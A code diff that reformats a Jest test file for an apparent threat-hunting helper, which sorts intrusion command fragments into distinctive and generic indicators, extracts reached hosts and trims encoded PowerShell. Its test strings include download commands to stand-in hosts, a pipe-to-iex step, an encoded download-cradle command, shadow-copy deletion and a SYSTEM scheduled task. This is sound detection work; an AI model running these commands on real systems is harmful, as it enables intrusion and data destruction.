@@ -1,28 +1,64 @@
 import { encodedCommand, isDistinctive, namedValues, reportedHosts } from './distinctive-values';
 
-describe('values that make a selection this intrusion\'s', () => {
+describe("values that make a selection this intrusion's", () => {
   it('does not count switches, schemes, common folders, shells or cmdlet names', () => {
-    for (const value of ['-nop', '-w hidden', '-ep bypass', '/create', '/select,', 'https://', '@/tmp/', '\\Downloads\\', '\\AppData\\Local\\Temp\\', 'C:\\ProgramData\\', 'iwr https://', 'Start-Service', '/p.ps1 | iex', '.8.1/', 'NT AUTHORITY\\SYSTEM', 'config.json', './install.sh', 'C:\\WINDOWS\\system32\\davclnt.dll,DavSetCookie']) {
+    for (const value of [
+      '-nop',
+      '-w hidden',
+      '-ep bypass',
+      '/create',
+      '/select,',
+      'https://',
+      '@/tmp/',
+      '\\Downloads\\',
+      '\\AppData\\Local\\Temp\\',
+      'C:\\ProgramData\\',
+      'iwr https://',
+      'Start-Service',
+      '/p.ps1 | iex',
+      '.8.1/',
+      'NT AUTHORITY\\SYSTEM',
+      'config.json',
+      './install.sh',
+      'C:\\WINDOWS\\system32\\davclnt.dll,DavSetCookie',
+    ]) {
       expect([value, isDistinctive(value)]).toEqual([value, false]);
     }
   });
 
   it('counts file, folder, service and host names, and behaviours that are the finding alone', () => {
-    for (const value of ['\\QuillSync\\qsync.exe --tray', 'C:\\Users\\Public\\lib.dll', 'scrobj.dll', 'QuillSyncSvc', 'files.rivetcloud-share.example:8443', '-urlcache', 'delete shadows', '/domain_trusts', '$env:APPDATA\\QuillSync\\']) {
+    for (const value of [
+      '\\QuillSync\\qsync.exe --tray',
+      'C:\\Users\\Public\\lib.dll',
+      'scrobj.dll',
+      'QuillSyncSvc',
+      'files.rivetcloud-share.example:8443',
+      '-urlcache',
+      'delete shadows',
+      '/domain_trusts',
+      '$env:APPDATA\\QuillSync\\',
+    ]) {
       expect([value, isDistinctive(value)]).toEqual([value, true]);
     }
   });
 
   it('finds the hosts a command reaches, leaving out code hosts and CDNs', () => {
-    expect(reportedHosts('curl -s https://files.rivetcloud-share.example/a -o x && curl https://github.com/x/y')).toEqual(['files.rivetcloud-share.example']);
+    expect(reportedHosts('curl -s https://files.rivetcloud-share.example/a -o x && curl https://github.com/x/y')).toEqual([
+      'files.rivetcloud-share.example',
+    ]);
     expect(reportedHosts('wget http://203.0.113.44:8080/a')).toEqual(['203.0.113.44:8080']);
     expect(reportedHosts('curl http://!h!/a')).toEqual([]);
   });
 
   it('keeps the start of an encoded command and the names a command gives', () => {
-    expect(encodedCommand('powershell -nop -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')).toBe('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA');
+    expect(
+      encodedCommand('powershell -nop -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'),
+    ).toBe('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA');
     expect(encodedCommand('osascript -e "display dialog"')).toBeNull();
-    expect(namedValues('Register-ScheduledTask -TaskName "Quill Sync Heartbeat" -User "SYSTEM" -RunLevel Highest -Force')).toEqual(['Quill Sync Heartbeat', 'SYSTEM']);
+    expect(namedValues('Register-ScheduledTask -TaskName "Quill Sync Heartbeat" -User "SYSTEM" -RunLevel Highest -Force')).toEqual([
+      'Quill Sync Heartbeat',
+      'SYSTEM',
+    ]);
     expect(namedValues('Get-Service -Name QuillSyncSvc')).toEqual(['QuillSyncSvc']);
   });
 });
